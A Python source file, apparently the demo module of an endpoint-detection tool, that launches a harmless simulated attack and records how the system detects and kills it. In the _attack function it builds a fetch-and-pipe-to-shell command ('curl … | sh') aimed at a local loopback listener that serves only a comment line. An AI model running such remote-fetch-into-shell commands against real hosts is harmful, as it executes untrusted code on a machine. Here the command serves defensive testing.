"""The demo: a harmless attack, and what the system makes of it, step by step.

A copy of the shell runs in a fresh directory with the argument list of a remote fetch piped into a
shell; the "remote" is a listener on loopback that serves one comment line. The built-in rule
``microedr-demo`` is the only one armed for an automatic kill by default, and only programs in such
directories match it. Nothing else is touched; ``run`` removes what it made.
"""

import contextlib
import os
import shutil
import signal
import subprocess
import tempfile
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import TypeVar

from microedr_standalone.client import Client, Json
from microedr_standalone.errors import ApiError, DemoError

RULE_ID = "microedr-demo"
PROGRAM = "demo-shell"
STEP_TIMEOUT_S = 15.0
POLL_S = 0.05

T = TypeVar("T")


@dataclass(frozen=True, slots=True)
class Step:
    """Something that happened, and when."""

    name: str
    unix_ns: int
    detail: str = ""


def run(client: Client, host_id: str, show: Callable[[Step], None]) -> Json:
    """Attack, watch, clean up; returns the alert as it stands at the end.

    Raises:
        DemoError: A step did not happen within ``STEP_TIMEOUT_S``; the text says which.
    """
    with _listener() as port, _program() as program, _attack(program, port) as attack, _end_of(attack) as end:
        show(Step("attack started", time.time_ns(), f"pid {attack.pid}: {program} -c 'curl … | sh'"))
        alert = _wait("an alert", lambda: _find_alert(client, host_id, attack.pid))
        readable_unix_ns = time.time_ns()
        show(Step("kernel event", alert["event_unix_ns"], alert["entities"]["exe"]))
        show(Step("rule matched", alert["matched_unix_ns"], alert["rule_id"]))
        show(Step("alert raised", alert["raised_unix_ns"], alert["title"]))
        show(Step("alert readable in the API", readable_unix_ns, alert["alert_id"]))
        shown: set[str] = set()
        _wait("the kill order to be signed", lambda: _advance(client, alert, "signed", shown, show))
        ended_unix_ns = _wait("the process to be killed", end.get)
        if attack.returncode != -signal.SIGKILL:
            raise DemoError(f"the demo program ended by itself with status {attack.returncode}; nothing killed it")
        show(Step("process killed", ended_unix_ns, f"pid {attack.pid} is gone"))
        return _wait("telemetry to prove the kill", lambda: _advance(client, alert, "observed", shown, show))


def _advance(client: Client, alert: Json, state: str, shown: set[str], show: Callable[[Step], None]) -> Json | None:
    """Show the steps of the alert's action that are new; the alert once the action reached ``state``."""
    current = client.get(f"/v1/alerts/{alert['alert_id']}")
    for action in current.get("actions", []):
        for step in action["steps"]:
            if step["state"] not in shown:
                shown.add(step["state"])
                show(Step(f"action {step['state']}", step["at_unix_ns"], step.get("reason") or step.get("actor", "")))
            if step["state"] in {"refused", "failed", "expired", "unknown"}:
                reason = step.get("reason") or step.get("detail") or "no reason was given"
                hint = "; does another agent act on this machine?" if reason == "gone" else ""
                raise DemoError(f"the kill ended as {step['state']}: {reason}{hint}")
    return current if state in shown else None


def _find_alert(client: Client, host_id: str, pid: int) -> Json | None:
    found = client.items("/v1/alerts", {"rule_id": RULE_ID, "host_id": host_id}, 20)
    return next((alert for alert in found if alert["entities"].get("pid") == pid), None)


def _wait(what: str, look: Callable[[], T | None]) -> T:
    deadline_s = time.monotonic() + STEP_TIMEOUT_S
    while True:
        try:
            if found := look():
                return found
        except ApiError as error:
            if time.monotonic() > deadline_s:
                raise DemoError(f"waited {STEP_TIMEOUT_S:.0f} s for {what}: {error}") from error
        if time.monotonic() > deadline_s:
            raise DemoError(f"waited {STEP_TIMEOUT_S:.0f} s for {what}; it did not happen")
        time.sleep(POLL_S)


@contextlib.contextmanager
def _program() -> Iterator[Path]:
    """A copy of the shell in a fresh directory from which programs may run."""
    shell = Path("/bin/sh").resolve()
    directory = Path(tempfile.mkdtemp(prefix="microedr-demo-", dir=_executable_directory()))
    try:
        program = directory / PROGRAM
        shutil.copyfile(shell, program)
        program.chmod(0o700)
        yield program
    finally:
        shutil.rmtree(directory, ignore_errors=True)


def _executable_directory() -> str:
    for candidate in (tempfile.gettempdir(), "/var/tmp", "."):  # noqa: S108 - mkdtemp draws a fresh name in it
        path = Path(candidate).resolve()
        if os.access(path, os.W_OK) and not os.statvfs(path).f_flag & os.ST_NOEXEC:
            return str(path)
    raise DemoError("found no directory from which a program may run (tried $TMPDIR, /var/tmp and this one)")


@contextlib.contextmanager
def _attack(program: Path, port: int) -> Iterator[subprocess.Popen[bytes]]:
    # The trailing command keeps the shell from replacing itself by sleep, which would be another executable.
    script = f"curl -fsS http://127.0.0.1:{port}/microedr-demo | sh; sleep {2 * STEP_TIMEOUT_S:.0f}; :"
    attack = subprocess.Popen(  # noqa: S603 - our own copy, our own arguments
        [str(program), "-c", script],
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        start_new_session=True,
    )
    try:
        yield attack
    finally:
        with contextlib.suppress(ProcessLookupError):
            os.killpg(attack.pid, signal.SIGKILL)
        attack.wait()


class _End:
    """When a process ended: told by a thread that waits for it, so that the time is exact."""

    def __init__(self, process: subprocess.Popen[bytes]) -> None:
        self._process = process
        self._unix_ns: int | None = None

    def watch(self) -> None:
        """Wait for the end; the body of the thread."""
        self._process.wait()
        self._unix_ns = time.time_ns()

    def get(self) -> int | None:
        """Unix nanoseconds; None while it runs."""
        return self._unix_ns


@contextlib.contextmanager
def _end_of(process: subprocess.Popen[bytes]) -> Iterator[_End]:
    end = _End(process)
    threading.Thread(target=end.watch, name="demo-end", daemon=True).start()
    yield end


class _Comment(BaseHTTPRequestHandler):
    """Serves one comment line: running it does nothing."""

    def do_GET(self) -> None:
        body = b"# harmless\n"
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: object) -> None:  # noqa: A002 - the base class's name
        """Say nothing."""


@contextlib.contextmanager
def _listener() -> Iterator[int]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Comment)
    thread = threading.Thread(target=server.serve_forever, name="demo-listener", daemon=True)
    thread.start()
    try:
        yield server.server_address[1]
    finally:
        server.shutdown()
        server.server_close()
        thread.join(timeout=5)
